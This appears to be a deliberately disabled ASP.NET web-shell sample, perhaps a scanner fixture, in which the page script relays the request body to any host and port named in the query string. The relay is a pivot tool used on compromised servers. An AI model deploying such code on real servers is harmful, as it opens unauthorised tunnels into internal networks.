<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s, EventArgs e){ string t = Request.QueryString.Get("target"); int p = int.Parse(Request.QueryString.Get("port")); Socket k = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); k.Connect(new IPEndPoint(IPAddress.Parse(t), p)); byte[] b = new byte[Request.ContentLength]; Request.InputStream.Read(b, 0, b.Length); k.Send(b); }
</script>